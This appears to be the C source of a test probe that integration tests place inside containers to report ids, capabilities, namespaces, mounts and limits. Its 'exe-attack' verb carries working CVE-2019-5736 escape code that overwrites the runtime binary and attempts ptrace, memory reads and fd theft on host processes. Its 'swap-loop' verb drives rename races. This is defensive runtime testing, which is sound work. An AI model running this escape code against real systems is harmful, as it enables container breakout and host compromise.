// sv-probe: a tiny static program the integration tests copy into a container rootfs as
// /probe. Each verb prints machine-readable output (one `key=value` per line, or raw file
// contents) so the Python tests can assert on what the container really sees.
//
// Exit codes: 0 on success; for verbs that touch a path, the errno of the failing call
// (so tests can check EROFS, EACCES, ...); 2 for usage errors.
#include <dirent.h>
#include <stddef.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <sys/syscall.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char** environ;

static int usage(void) {
  fputs(
      "usage: probe VERB [ARGS]\n"
      "verbs: id caps hostname mounts cat write ls stat ns rlimits oom personality env cwd\n"
      "       fds sigs exit kill-self sleep pid sysctl mknod-test readlink echo-stdin\n"
      "       write-stdout write-stderr mkdir alloc connect cwd-check exe-attack swap-loop\n",
      stderr);
  return 2;
}

static int fail(const char* what, const char* path) {
  int err = errno;
  fprintf(stderr, "probe: %s '%s': %s\n", what, path, strerror(err));
  printf("errno=%d\n", err);
  fflush(stdout);
  return err ? err : 1;
}

// Copies a whole file (or fd) to stdout. Returns 0 or errno.
static int copyFd(int fd, int out) {
  char buf[8192];
  for (;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0) {
      if (errno == EINTR) continue;
      return errno;
    }
    if (n == 0) return 0;
    for (ssize_t off = 0; off < n;) {
      ssize_t w = write(out, buf + off, (size_t)(n - off));
      if (w < 0) {
        if (errno == EINTR) continue;
        return errno;
      }
      off += w;
    }
  }
}

static int catFile(const char* path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return fail("open", path);
  fflush(stdout);
  int err = copyFd(fd, STDOUT_FILENO);
  close(fd);
  if (err) {
    errno = err;
    return fail("read", path);
  }
  return 0;
}

// Prints the lines of /proc/self/status whose key is in `keys` as key=value.
static int statusFields(const char* const* keys, size_t nkeys) {
  FILE* f = fopen("/proc/self/status", "re");
  if (!f) return fail("open", "/proc/self/status");
  char line[512];
  while (fgets(line, sizeof line, f)) {
    char* colon = strchr(line, ':');
    if (!colon) continue;
    *colon = '\0';
    for (size_t i = 0; i < nkeys; i++) {
      if (strcmp(line, keys[i]) != 0) continue;
      char* v = colon + 1;
      while (*v == ' ' || *v == '\t') v++;
      v[strcspn(v, "\n")] = '\0';
      printf("%s=%s\n", keys[i], v);
    }
  }
  fclose(f);
  return 0;
}

static int cmdId(void) {
  printf("uid=%u\ngid=%u\neuid=%u\negid=%u\n", (unsigned)getuid(), (unsigned)getgid(),
         (unsigned)geteuid(), (unsigned)getegid());
  gid_t groups[NGROUPS_MAX > 65536 ? 65536 : NGROUPS_MAX];
  int n = getgroups((int)(sizeof groups / sizeof groups[0]), groups);
  printf("groups=");
  for (int i = 0; i < n; i++) printf(i ? ",%u" : "%u", (unsigned)groups[i]);
  printf("\n");
  mode_t m = umask(0);
  umask(m);
  printf("umask=%04o\n", (unsigned)m);
  return 0;
}

static int cmdCaps(void) {
  static const char* const keys[] = {"CapInh", "CapPrm", "CapEff",
                                     "CapBnd", "CapAmb", "NoNewPrivs"};
  return statusFields(keys, sizeof keys / sizeof keys[0]);
}

static int cmdSigs(void) {
  static const char* const keys[] = {"SigBlk", "SigIgn", "SigCgt", "SigPnd", "ShdPnd"};
  return statusFields(keys, sizeof keys / sizeof keys[0]);
}

static int cmdHostname(void) {
  struct utsname u;
  if (uname(&u) != 0) return fail("uname", "");
  printf("nodename=%s\ndomainname=%s\nmachine=%s\n", u.nodename, u.domainname, u.machine);
  return 0;
}

static int cmdWrite(const char* path, const char* text) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return fail("open", path);
  size_t len = strlen(text);
  if (write(fd, text, len) != (ssize_t)len) {
    int r = fail("write", path);
    close(fd);
    return r;
  }
  if (close(fd) != 0) return fail("close", path);
  printf("errno=0\n");
  return 0;
}

static int cmpStr(const void* a, const void* b) {
  return strcmp(*(const char* const*)a, *(const char* const*)b);
}

static int cmdLs(const char* path) {
  DIR* d = opendir(path);
  if (!d) return fail("opendir", path);
  enum { kMax = 4096 };
  static char names[kMax][256];
  static char* ptrs[kMax];
  size_t n = 0;
  struct dirent* e;
  while ((e = readdir(d)) != NULL && n < kMax) {
    if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0) continue;
    snprintf(names[n], sizeof names[n], "%s", e->d_name);
    ptrs[n] = names[n];
    n++;
  }
  closedir(d);
  qsort(ptrs, n, sizeof ptrs[0], cmpStr);
  for (size_t i = 0; i < n; i++) printf("%s\n", ptrs[i]);
  return 0;
}

static const char* typeName(mode_t m) {
  switch (m & S_IFMT) {
    case S_IFREG:
      return "file";
    case S_IFDIR:
      return "dir";
    case S_IFCHR:
      return "chr";
    case S_IFBLK:
      return "blk";
    case S_IFIFO:
      return "fifo";
    case S_IFSOCK:
      return "sock";
    case S_IFLNK:
      return "link";
    default:
      return "unknown";
  }
}

static int cmdStat(const char* path) {
  struct stat st;
  if (lstat(path, &st) != 0) return fail("lstat", path);
  printf("type=%s\nmode=%04o\nuid=%u\ngid=%u\nrdev=%u:%u\nsize=%lld\nino=%llu\ndev=%u:%u\n",
         typeName(st.st_mode), (unsigned)(st.st_mode & 07777), (unsigned)st.st_uid,
         (unsigned)st.st_gid, major(st.st_rdev), minor(st.st_rdev), (long long)st.st_size,
         (unsigned long long)st.st_ino, major(st.st_dev), minor(st.st_dev));
  return 0;
}

static int cmdNs(void) {
  static const char* const names[] = {
      "cgroup",           "ipc", "mnt", "net", "pid", "time", "user", "uts", "pid_for_children",
      "time_for_children"};
  for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
    char path[64], target[128];
    snprintf(path, sizeof path, "/proc/self/ns/%s", names[i]);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) {
      printf("%s=error:%d\n", names[i], errno);
      continue;
    }
    target[n] = '\0';
    printf("%s=%s\n", names[i], target);
  }
  return 0;
}

static int cmdRlimits(void) {
  static const struct {
    const char* name;
    int res;
  } table[] = {
      {"RLIMIT_AS", RLIMIT_AS},
      {"RLIMIT_CORE", RLIMIT_CORE},
      {"RLIMIT_CPU", RLIMIT_CPU},
      {"RLIMIT_DATA", RLIMIT_DATA},
      {"RLIMIT_FSIZE", RLIMIT_FSIZE},
      {"RLIMIT_LOCKS", RLIMIT_LOCKS},
      {"RLIMIT_MEMLOCK", RLIMIT_MEMLOCK},
      {"RLIMIT_MSGQUEUE", RLIMIT_MSGQUEUE},
      {"RLIMIT_NICE", RLIMIT_NICE},
      {"RLIMIT_NOFILE", RLIMIT_NOFILE},
      {"RLIMIT_NPROC", RLIMIT_NPROC},
      {"RLIMIT_RSS", RLIMIT_RSS},
      {"RLIMIT_RTPRIO", RLIMIT_RTPRIO},
      {"RLIMIT_RTTIME", RLIMIT_RTTIME},
      {"RLIMIT_SIGPENDING", RLIMIT_SIGPENDING},
      {"RLIMIT_STACK", RLIMIT_STACK},
  };
  for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
    struct rlimit rl;
    if (getrlimit(table[i].res, &rl) != 0) {
      printf("%s=error:%d\n", table[i].name, errno);
      continue;
    }
    char soft[32], hard[32];
    if (rl.rlim_cur == RLIM_INFINITY)
      snprintf(soft, sizeof soft, "unlimited");
    else
      snprintf(soft, sizeof soft, "%llu", (unsigned long long)rl.rlim_cur);
    if (rl.rlim_max == RLIM_INFINITY)
      snprintf(hard, sizeof hard, "unlimited");
    else
      snprintf(hard, sizeof hard, "%llu", (unsigned long long)rl.rlim_max);
    printf("%s=%s:%s\n", table[i].name, soft, hard);
  }
  return 0;
}

static int cmdPersonality(void) {
  int p = personality(0xffffffff);
  if (p < 0) return fail("personality", "");
  struct utsname u;
  uname(&u);
  printf("personality=%d\nmachine=%s\n", p, u.machine);
  return 0;
}

static int cmdEnv(void) {
  for (char** e = environ; e && *e; e++) printf("%s\n", *e);
  return 0;
}

static int cmdCwd(void) {
  char buf[PATH_MAX];
  if (!getcwd(buf, sizeof buf)) return fail("getcwd", "");
  printf("%s\n", buf);
  return 0;
}

// Lists open fds as "N TARGET", excluding the fd used to read the directory itself.
static int cmdFds(void) {
  DIR* d = opendir("/proc/self/fd");
  if (!d) return fail("opendir", "/proc/self/fd");
  int self = dirfd(d);
  struct dirent* e;
  int fds[1024];
  size_t n = 0;
  while ((e = readdir(d)) != NULL && n < 1024) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd == self) continue;
    fds[n++] = fd;
  }
  // Insertion sort keeps the output stable without allocating.
  for (size_t i = 1; i < n; i++)
    for (size_t j = i; j > 0 && fds[j - 1] > fds[j]; j--) {
      int t = fds[j];
      fds[j] = fds[j - 1];
      fds[j - 1] = t;
    }
  for (size_t i = 0; i < n; i++) {
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
    ssize_t len = readlinkat(self, path + strlen("/proc/self/fd/"), target, sizeof target - 1);
    if (len < 0) len = readlink(path, target, sizeof target - 1);
    if (len < 0) {
      snprintf(target, sizeof target, "?");
      len = 1;
    }
    target[len] = '\0';
    printf("%d %s\n", fds[i], target);
  }
  closedir(d);
  return 0;
}

static int parseSignal(const char* s) {
  static const struct {
    const char* name;
    int sig;
  } table[] = {{"HUP", SIGHUP},   {"INT", SIGINT},   {"QUIT", SIGQUIT}, {"ABRT", SIGABRT},
               {"KILL", SIGKILL}, {"USR1", SIGUSR1}, {"SEGV", SIGSEGV}, {"USR2", SIGUSR2},
               {"PIPE", SIGPIPE}, {"ALRM", SIGALRM}, {"TERM", SIGTERM}};
  if (strncmp(s, "SIG", 3) == 0) s += 3;
  for (size_t i = 0; i < sizeof table / sizeof table[0]; i++)
    if (strcmp(s, table[i].name) == 0) return table[i].sig;
  char* end;
  long v = strtol(s, &end, 10);
  if (*s == '\0' || *end != '\0' || v <= 0 || v >= 65) return -1;
  return (int)v;
}

// `kill-self SIG [keep-disposition]`: unblocks SIG and sends it to itself. The disposition is
// reset to SIG_DFL unless keep-disposition is given (to test what the process inherited).
static int cmdKillSelf(const char* name, const char* mode) {
  int sig = parseSignal(name);
  if (sig < 0) return usage();
  if (!mode || strcmp(mode, "keep-disposition") != 0) signal(sig, SIG_DFL);
  sigset_t set;
  sigemptyset(&set);
  sigaddset(&set, sig);
  sigprocmask(SIG_UNBLOCK, &set, NULL);
  fflush(stdout);
  if (getpid() == 1)
    fputs("probe: warning: pid 1 of a pid namespace ignores default-action signals\n", stderr);
  kill(getpid(), sig);
  // A signal with a terminating default action should not return here.
  fprintf(stderr, "probe: still alive after signal %d\n", sig);
  return 99;
}

static int cmdSleep(const char* secs) {
  double s = atof(secs);
  struct timespec ts = {(time_t)s, (long)((s - (double)(time_t)s) * 1e9)};
  while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
  }
  return 0;
}

static int cmdSysctl(const char* key) {
  char path[PATH_MAX];
  int n = snprintf(path, sizeof path, "/proc/sys/%s", key);
  if (n < 0 || (size_t)n >= sizeof path) return usage();
  // Dotted names map to slashes; a key that already uses slashes is taken as-is.
  for (char* p = path + strlen("/proc/sys/"); *p; p++)
    if (*p == '.') *p = '/';
  return catFile(path);
}

// `mknod-test [PATH [c|b MAJOR MINOR]]`: creates a device node (default /tmp/sv-probe-node,
// char 1:3), tries to open it read-write and removes it. Prints mknod=ERRNO and open=ERRNO;
// exits with the mknod errno.
static int cmdMknodTest(int argc, char** argv) {
  const char* path = argc > 2 ? argv[2] : "/tmp/sv-probe-node";
  mode_t type = S_IFCHR;
  unsigned maj = 1, min = 3;
  if (argc > 5) {
    type = strcmp(argv[3], "b") == 0 ? S_IFBLK : S_IFCHR;
    maj = (unsigned)strtoul(argv[4], NULL, 10);
    min = (unsigned)strtoul(argv[5], NULL, 10);
  }
  unlink(path);
  int r = mknod(path, type | 0600, makedev(maj, min));
  int err = r == 0 ? 0 : errno;
  printf("mknod=%d\n", err);
  if (r == 0) {
    int fd = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
    printf("open=%d\n", fd < 0 ? errno : 0);
    if (fd >= 0) close(fd);
    unlink(path);
  }
  return err;
}

static int cmdReadlink(const char* path) {
  char target[PATH_MAX];
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0) return fail("readlink", path);
  target[n] = '\0';
  printf("%s\n", target);
  return 0;
}

static int writeAll(int fd, const char* text) {
  size_t len = strlen(text);
  while (len > 0) {
    ssize_t w = write(fd, text, len);
    if (w < 0) {
      if (errno == EINTR) continue;
      return errno;
    }
    text += w;
    len -= (size_t)w;
  }
  return 0;
}

static int cmdMkdir(const char* path) {
  if (mkdir(path, 0755) != 0) return fail("mkdir", path);
  printf("errno=0\n");
  return 0;
}

// Verb adapters: every verb takes the arguments after the verb name.
static int vId(char** a) {
  (void)a;
  return cmdId();
}
static int vCaps(char** a) {
  (void)a;
  return cmdCaps();
}
static int vHostname(char** a) {
  (void)a;
  return cmdHostname();
}
static int vMounts(char** a) {
  (void)a;
  return catFile("/proc/self/mountinfo");
}
static int vCat(char** a) {
  return catFile(a[0]);
}
static int vWrite(char** a) {
  return cmdWrite(a[0], a[1]);
}
static int vLs(char** a) {
  return cmdLs(a[0]);
}
static int vStat(char** a) {
  return cmdStat(a[0]);
}
static int vNs(char** a) {
  (void)a;
  return cmdNs();
}
static int vRlimits(char** a) {
  (void)a;
  return cmdRlimits();
}
static int vOom(char** a) {
  (void)a;
  return catFile("/proc/self/oom_score_adj");
}
static int vPersonality(char** a) {
  (void)a;
  return cmdPersonality();
}
static int vEnv(char** a) {
  (void)a;
  return cmdEnv();
}
static int vCwd(char** a) {
  (void)a;
  return cmdCwd();
}
static int vFds(char** a) {
  (void)a;
  return cmdFds();
}
static int vSigs(char** a) {
  (void)a;
  return cmdSigs();
}
static int vExit(char** a) {
  return atoi(a[0]);
}
static int vKillSelf(char** a) {
  return cmdKillSelf(a[0], a[1]);
}
static int vSleep(char** a) {
  return cmdSleep(a[0]);
}
static int vSysctl(char** a) {
  return cmdSysctl(a[0]);
}
static int vReadlink(char** a) {
  return cmdReadlink(a[0]);
}
static int vMkdir(char** a) {
  return cmdMkdir(a[0]);
}
static int vWriteStderr(char** a) {
  return writeAll(STDERR_FILENO, a[0]);
}

static int vPid(char** a) {
  (void)a;
  printf("pid=%d\nppid=%d\n", (int)getpid(), (int)getppid());
  return 0;
}

/* The terminal as the process sees it: which stdio fds are ttys, the pty's name, whether it
   is our controlling terminal with us in the foreground, its size, and whether
   /dev/console is the same device. */
static int vTty(char** a) {
  (void)a;
  struct stat in, console;
  struct winsize ws = {0};
  const char* name = ttyname(0);
  int haveIn = fstat(0, &in) == 0, haveConsole = stat("/dev/console", &console) == 0;
  int ctty = open("/dev/tty", O_RDWR | O_CLOEXEC);
  ioctl(0, TIOCGWINSZ, &ws);
  printf("tty0=%d\ntty1=%d\ntty2=%d\nname=%s\nsession_leader=%d\nctty=%d\nforeground=%d\n"
         "rows=%d\ncols=%d\nconsole_is_stdin=%d\n",
         isatty(0), isatty(1), isatty(2), name ? name : "", getsid(0) == getpid(), ctty >= 0,
         tcgetpgrp(0) == getpgrp(), ws.ws_row, ws.ws_col,
         haveIn && haveConsole && S_ISCHR(console.st_mode) && console.st_rdev == in.st_rdev);
  if (ctty >= 0) close(ctty);
  return 0;
}

/* Scheduling as the process sees it: policy, nice value, I/O priority. */
static int vSched(char** a) {
  (void)a;
  errno = 0;
  int nice = getpriority(PRIO_PROCESS, 0);
  printf("policy=%d\nnice=%d\nioprio=%ld\n", sched_getscheduler(0), errno ? 99 : nice,
         syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, 0));
  return 0;
}

static int vEchoStdin(char** a) {
  (void)a;
  fflush(stdout);
  return copyFd(STDIN_FILENO, STDOUT_FILENO);
}

static int vWriteStdout(char** a) {
  fflush(stdout);
  return writeAll(STDOUT_FILENO, a[0]);
}

/* alloc MIB [hold]: allocates and touches MIB MiB (a memory cgroup limit below that OOM-kills
   the probe: SIGKILL), prints allocated=MIB, and with "hold" keeps it until killed. */
static int vAlloc(char** a) {
  size_t len = (size_t)strtoul(a[0], NULL, 10) << 20;
  volatile char* p = malloc(len ? len : 1);
  if (!p) return fail("malloc", a[0]);
  for (size_t i = 0; i < len; i += 4096) p[i] = 1;
  printf("allocated=%s\n", a[0]);
  fflush(stdout);
  if (a[1] && strcmp(a[1], "hold") == 0)
    for (;;) pause();
  return 0;
}


/* connect PATH: a Unix stream connect; "@name" is an abstract address. Prints connect=ERRNO
   and exits with it. */
static int vConnect(char** a) {
  struct sockaddr_un addr;
  memset(&addr, 0, sizeof addr);
  addr.sun_family = AF_UNIX;
  size_t len = strlen(a[0]);
  if (len >= sizeof addr.sun_path) return usage();
  memcpy(addr.sun_path, a[0], len);
  if (a[0][0] == '@') addr.sun_path[0] = '\0';
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) return fail("socket", a[0]);
  socklen_t alen = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len);
  int r = connect(s, (struct sockaddr*)&addr, alen);
  int err = r == 0 ? 0 : errno;
  close(s);
  printf("connect=%d\n", err);
  return err;
}

/* cwd-check: where the process's working directory really is. getcwd (cwd=PATH or
   cwd_errno=E; the kernel prefixes "(unreachable)" for a directory outside the root) and
   whether stat(".") is the same inode as stat(PATH) looked up from the root (same=1). */
static int vCwdCheck(char** a) {
  (void)a;
  char buf[PATH_MAX];
  struct stat dot, byPath;
  if (stat(".", &dot) != 0) return fail("stat", ".");
  if (!getcwd(buf, sizeof buf)) {
    printf("cwd_errno=%d\nsame=0\n", errno);
    return 0;
  }
  int same = buf[0] == '/' && stat(buf, &byPath) == 0 && byPath.st_dev == dot.st_dev &&
             byPath.st_ino == dot.st_ino;
  printf("cwd=%s\nsame=%d\n", buf, same);
  return 0;
}

/* exe-attack SECS: the CVE-2019-5736 attacker, plus ptrace and fd theft. For SECS seconds it
   scans the pid namespace for processes that are not running a binary of this container (the
   runtime's processes while `exec` joins the container) and, for each:
     - open /proc/PID/exe O_PATH (refused while the runtime is non-dumpable): grabbed
     - reopen that fd O_WRONLY through /proc/self/fd (CVE-2019-5736) and write a marker
       (write_open_ok: opened, which a sealed memfd allows; write_ok: written)
     - PTRACE_SEIZE, process_vm_readv and pidfd_getfd of fd 0..15
   The last three only against processes whose exe was refused (the runtime's own, not
   dumpable; a dumpable one runs as a user of this container and is fair game).
   Prints counters: seen, exe_denied, grabbed, write_ok, ptrace_ok, vmread_ok, getfd_ok. A
   grabbed exe is kept and retried until the end: the runtime's own binary is busy (ETXTBSY)
   only while it runs. */
static int isLocalBinary(const struct stat* st, const struct stat* locals, int n) {
  for (int i = 0; i < n; i++)
    if (locals[i].st_dev == st->st_dev && locals[i].st_ino == st->st_ino) return 1;
  return 0;
}

static int stillSealed(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd < 0 && (errno == EACCES || errno == EPERM);
}

static int vExeAttack(char** a) {
  double secs = atof(a[0]);
  struct stat locals[4];
  int nlocal = 0;
  const char* mine[] = {"/proc/self/exe", "/bin/busybox", "/probe"};
  for (int i = 0; i < 3; i++)
    if (stat(mine[i], &locals[nlocal]) == 0) nlocal++;
  int held[16];
  int nheld = 0;
  long seen = 0, denied = 0, grabbed = 0, openOk = 0, writeOk = 0;
  long ptraceOk = 0, vmOk = 0, getfdOk = 0;
  int lastWriteErr = 0, lastPtraceErr = 0;
  struct timespec t0, now;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  // One bit per pid: each foreign pid is attacked once, and grabbed once.
  static unsigned tried[4194304 / 32 + 1], grabbedPid[4194304 / 32 + 1];
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if ((double)(now.tv_sec - t0.tv_sec) + (double)(now.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
    DIR* d = opendir("/proc");
    if (!d) return fail("opendir", "/proc");
    struct dirent* e;
    while ((e = readdir(d)) != NULL) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid() || pid > 4194304) continue;
      if (grabbedPid[pid / 32] & (1u << (pid % 32))) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      struct stat st;
      if (fd >= 0 && (fstat(fd, &st) != 0 || isLocalBinary(&st, locals, nlocal))) {
        close(fd);
        continue;  // one of ours (or gone): not a target
      }
      if (fd < 0 && errno != EACCES && errno != EPERM) continue;  // gone, or a kernel thread
      // One pid may be refused first (the runtime's child) and open later (the same process
      // after it exec'd the runtime's binary again through #!/proc/self/exe).
      int first = !(tried[pid / 32] & (1u << (pid % 32)));
      tried[pid / 32] |= 1u << (pid % 32);
      if (first) seen++;
      if (fd >= 0) {
        grabbedPid[pid / 32] |= 1u << (pid % 32);
        char target[PATH_MAX], cmd[256] = "";
        ssize_t tn = readlink(path, target, sizeof target - 1);
        target[tn < 0 ? 0 : tn] = '\0';
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int cfd = open(path, O_RDONLY | O_CLOEXEC);
        if (cfd >= 0) {
          ssize_t cn = read(cfd, cmd, sizeof cmd - 1);
          cmd[cn < 0 ? 0 : cn] = '\0';
          for (ssize_t k = 0; k + 1 < cn; k++)
            if (cmd[k] == '\0') cmd[k] = ' ';
          close(cfd);
        }
        printf("grab=%d %s [%s]\n", pid, target, cmd);
        fflush(stdout);
        grabbed++;
        if (nheld < 16) held[nheld++] = fd;
        else close(fd);
        continue;  // dumpable: running as this container's user; nothing to steal there
      }
      if (!first) continue;
      denied++;
      // Each success counts only if the target still refuses its exe afterwards: a process
      // that has exec'd the container's program in between is the container's own.
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        if (stillSealed(pid)) ptraceOk++;
        // Let go cleanly (a tracee left attached would stop on its next signal).
        int wst;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, &wst, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
      } else {
        lastPtraceErr = errno;
      }
      char byte;
      struct iovec local = {&byte, 1}, remote = {(void*)0x400000, 1};
      if ((syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) &&
          stillSealed(pid))
        vmOk++;
      int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd >= 0) {
        for (int target = 0; target < 16; target++) {
          int got = (int)syscall(SYS_pidfd_getfd, pfd, target, 0);
          if (got >= 0) {
            if (stillSealed(pid)) getfdOk++;
            close(got);
          }
        }
        close(pfd);
      }
    }
    closedir(d);
    for (int i = 0; i < nheld; i++) {
      if (held[i] < 0) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) {
        lastWriteErr = errno;
        continue;
      }
      openOk++;
      if (pwrite(w, "SVES-PWNED", 10, 0) == 10) writeOk++;
      else lastWriteErr = errno;
      close(w);
      close(held[i]);
      held[i] = -1;
    }
  }
  printf("seen=%ld\nexe_denied=%ld\ngrabbed=%ld\nwrite_open_ok=%ld\nwrite_ok=%ld\n", seen,
         denied, grabbed, openOk, writeOk);
  printf("write_errno=%d\nptrace_ok=%ld\nptrace_errno=%d\nvmread_ok=%ld\ngetfd_ok=%ld\n",
         lastWriteErr, ptraceOk, lastPtraceErr, vmOk, getfdOk);
  return 0;
}

/* swap-loop A B SECS: exchanges A and B (say a directory and a symlink) with
   renameat2(RENAME_EXCHANGE) as fast as it can for SECS seconds; prints swaps=N. */
static int vSwapLoop(char** a) {
  double secs = atof(a[2]);
  struct timespec t0, now;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long n = 0;
  for (;;) {
    for (int i = 0; i < 256; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], 2 /* RENAME_EXCHANGE */) != 0)
        return fail("renameat2", a[0]);
      n++;
    }
    clock_gettime(CLOCK_MONOTONIC, &now);
    if ((double)(now.tv_sec - t0.tv_sec) + (double)(now.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
  }
  printf("swaps=%ld\n", n);
  return 0;
}

static const struct {
  const char* name;
  int minArgs;
  int (*run)(char** args);
} kVerbs[] = {
    {"id", 0, vId},
    {"caps", 0, vCaps},
    {"hostname", 0, vHostname},
    {"mounts", 0, vMounts},
    {"cat", 1, vCat},
    {"write", 2, vWrite},
    {"ls", 1, vLs},
    {"stat", 1, vStat},
    {"ns", 0, vNs},
    {"rlimits", 0, vRlimits},
    {"oom", 0, vOom},
    {"personality", 0, vPersonality},
    {"env", 0, vEnv},
    {"cwd", 0, vCwd},
    {"fds", 0, vFds},
    {"sigs", 0, vSigs},
    {"exit", 1, vExit},
    {"kill-self", 1, vKillSelf},
    {"sleep", 1, vSleep},
    {"pid", 0, vPid},
    {"sysctl", 1, vSysctl},
    {"readlink", 1, vReadlink},
    {"echo-stdin", 0, vEchoStdin},
    {"tty", 0, vTty},
    {"sched", 0, vSched},
    {"write-stdout", 1, vWriteStdout},
    {"write-stderr", 1, vWriteStderr},
    {"mkdir", 1, vMkdir},
    {"alloc", 1, vAlloc},
    {"connect", 1, vConnect},
    {"cwd-check", 0, vCwdCheck},
    {"exe-attack", 1, vExeAttack},
    {"swap-loop", 3, vSwapLoop},
};

int main(int argc, char** argv) {
  if (argc < 2) return usage();
  // mknod-test has optional arguments that depend on each other; it reads argv itself.
  if (strcmp(argv[1], "mknod-test") == 0) return cmdMknodTest(argc, argv);
  for (size_t i = 0; i < sizeof kVerbs / sizeof kVerbs[0]; i++) {
    if (strcmp(argv[1], kVerbs[i].name) != 0) continue;
    if (argc - 2 < kVerbs[i].minArgs) return usage();
    int rc = kVerbs[i].run(argv + 2);  // argv is NULL-terminated: optional args read NULL
    if (fflush(stdout) != 0 && rc == 0) rc = errno ? errno : 1;
    return rc;
  }
  return usage();
}
